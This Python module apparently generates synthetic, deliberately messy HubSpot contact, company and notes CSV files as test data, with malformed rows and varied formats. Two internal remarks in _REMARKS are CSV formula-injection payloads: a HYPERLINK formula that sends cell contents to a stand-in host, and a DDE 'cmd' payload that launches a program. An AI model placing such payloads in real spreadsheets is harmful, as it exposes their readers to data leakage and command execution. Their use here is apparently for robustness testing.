"""The customer system: HubSpot's contacts, companies and notes as CSV, with what people do to such tables."""

import csv
import io
from collections.abc import Mapping
from datetime import datetime
from itertools import cycle
from pathlib import Path
from random import Random

from demo.clock import Clock
from demo.marked import Marked, fill, named
from demo.people import Person
from demo.script import threads
from demo.truth import Truth, Where

_NOT_IN_CRM = {"ruben", "arjan", "camille", "will"}
_PHONES = ("phone", "phone_slash", "phone_intl", "phone_pairs", "phone_dots", "phone_plain")
_OWNERS = ("lotte", "karim", "roos", "mark", "julie")
_REMARKS = {
    "bram": "Belt liever niet na 18 uur.\nZakelijk contact, factuur naar {bram.email}.",
    "joris": "Zelfde gsm als {hilde.full}",
    "stijn_b": 'Niet verwarren met "de andere" {stijn_b.full}!',
    "koen": '=HYPERLINK("http://spaakenzadel.example/?q="&A1,"dossier")',
    "ludo": "@SUM(1+1)*cmd|' /C calc'!A0",
    "jean_baptiste": "Comptable : {ines.first} {ines.last}",
    "emily": "Deposit paid by {tom.full}",
    "tine": "-5% korting, betaalt altijd contant, ook de borg",
}
_UNQUOTED = {"tine"}  # pasted in by hand: the commas of the remark make two cells too many
CONTACT_COLUMNS = (
    "Record ID", "First Name", "Last Name", "Email", "Additional email addresses", "Phone Number",
    "Mobile Phone Number", "Street Address", "City", "Postal Code", "Company Name", "Contact owner",
    "Lifecycle Stage", "Create Date", "Preferred language", "Geboortedatum", "Opmerking intern",
)  # fmt: skip
COMPANIES = {  # key in the notes script -> Record ID, name, domain, owner
    "eikenhout": ("9001", "Schrijnwerkerij Eikenhout bv", "eikenhout.example", "lotte"),
    "pijlsnel": ("9002", "Pijlsnel Fietskoeriers", "pijlsnel.example", "mark"),
    "hoogland": ("9003", "Dakwerken Het Hoogland", "hoogland.example", "lotte"),
    "korenveld": ("9004", "Bakkerij 't Korenveld", "korenveld.example", "karim"),
    "linde": ("9005", "Zorggroep Linde vzw", "zorggroeplinde.example", "lotte"),
    "inktvis": ("9006", "Boekhandel Inktvis", "boekhandelinktvis.example", "mark"),
    "leguidon": ("9007", "Café Le Guidon", "leguidon.example", "julie"),
    "lumen": ("9008", "Lumen Studio", "lumenstudio.example", "mark"),
    "harbour": ("9009", "Harbour Couriers Ltd", "harbourcouriers.example", "lotte"),
    "korenveld_again": ("9010", "BAKKERIJ 'T KORENVELD", "", ""),
}
_UNCLOSED = '9011,"Fietsclub De Ketting,fietsclub.example,,\n'
_Row = dict[str, Marked]


def write_crm(out: Path, truth: Truth, rng: Random) -> None:
    """Write the three tables under `hubspot/` and note what is in them."""
    (out / "hubspot").mkdir(parents=True, exist_ok=True)
    customers = [p for p in truth.people.values() if p.role == "customer" and p.id not in _NOT_IN_CRM]
    ids = {person.id: str(4401 + 7 * index) for index, person in enumerate(customers)}
    _write_contacts(out, truth, ids, Clock(rng, datetime(2024, 3, 4)))
    _write_companies(out, truth)
    _write_notes(out, truth, ids, Clock(rng))


def _write_contacts(out: Path, truth: Truth, ids: Mapping[str, str], clock: Clock) -> None:
    file, buffer = "hubspot/contacts.csv", io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(CONTACT_COLUMNS)
    styles, owners = cycle(_PHONES), cycle(_OWNERS)
    for line, (person, key) in enumerate(ids.items(), start=2):
        if line == 20:
            buffer.write(f'{key}0,"geen,naam@,,\r\n')  # a quote that is never closed
        row = _contact(truth.people, truth.people[person], key, next(styles), next(owners), clock)
        cells = [row[column].text for column in CONTACT_COLUMNS]
        if person in _UNQUOTED:
            buffer.write(",".join(cells) + "\r\n")
        else:
            writer.writerow(cells)
        for column in CONTACT_COLUMNS:
            truth.mention(Where(file, key, f"row {line + (line >= 20)}"), column, row[column])
    (out / file).write_bytes(buffer.getvalue().encode("utf-8-sig"))
    truth.total(file, len(ids), unreadable=1)


def _contact(
    people: Mapping[str, Person], person: Person, key: str, style: str, owner: str, clock: Clock
) -> _Row:
    extra = named(person, "email2", "field") if len(person.emails) > 1 else Marked()
    return {
        "Record ID": Marked(key),
        "First Name": named(person, "first"),
        "Last Name": named(person, "last"),
        "Email": named(person, "email"),
        "Additional email addresses": extra,
        "Phone Number": named(person, style),
        "Mobile Phone Number": named(person, "phone_intl") if person.serial % 4 == 0 else Marked(),
        "Street Address": named(person, "street"),
        "City": Marked(person.city),
        "Postal Code": Marked(person.postcode),
        "Company Name": Marked(person.firm),
        "Contact owner": named(people[owner], "full"),
        "Lifecycle Stage": Marked("Lead" if person.serial % 3 == 0 else "Customer"),
        "Create Date": Marked(f"{clock.thread(14):%Y-%m-%d %H:%M}"),
        "Preferred language": Marked(person.language),
        "Geboortedatum": named(person, "dob") if person.born and person.serial % 2 else Marked(),
        "Opmerking intern": fill(_REMARKS.get(person.id, ""), people),
    }


def _write_companies(out: Path, truth: Truth) -> None:
    file, buffer = "hubspot/companies.csv", io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(("Record ID", "Company name", "Company Domain Name", "Company owner", "Create Date"))
    for line, (key, name, domain, owner) in enumerate(COMPANIES.values(), start=2):
        shown = named(truth.people[owner], "full") if owner else Marked()
        writer.writerow((key, name, domain, shown.text, f"2024-0{line % 9 + 1}-15 09:30" if owner else ""))
        truth.mention(Where(file, key, f"row {line}"), "Company owner", shown)
    (out / file).write_bytes((buffer.getvalue() + _UNCLOSED).encode())
    truth.total(file, len(COMPANIES), unreadable=1)


def _write_notes(out: Path, truth: Truth, ids: Mapping[str, str], clock: Clock) -> None:
    file, buffer, people = "hubspot/notes.csv", io.StringIO(), truth.people
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(
        ("Activity date", "Note body", "Associated Contact", "Associated Company", "Activity assigned to")
    )
    line = 1
    for entry in (entry for thread in threads("notes") for entry in thread.entries):
        line += 1
        text, html = fill(entry.text, people), "html" in entry.options
        contact = named(people[entry.author], "full") + (
            f" ({ids[entry.author]})" if entry.author in ids else ""
        )
        owner = named(people[entry.options["by"]], "full")
        firm = COMPANIES[entry.options["company"]] if "company" in entry.options else ("", "", "", "")
        shown = f"<p>{text.text.replace('. ', '.<br>')}</p>" if html else text.text
        company = f"{firm[1]} ({firm[0]})" if firm[0] else ""
        writer.writerow((f"{clock.thread(3):%Y-%m-%d %H:%M}", shown, contact.text, company, owner.text))
        record = Where(file, "", f"row {line}")
        truth.mention(record, "text", text, html=html)
        truth.mention(record, "Associated Contact", contact)
        truth.mention(record, "Activity assigned to", owner)
    (out / file).write_bytes(buffer.getvalue().encode())
    truth.total(file, line - 1)
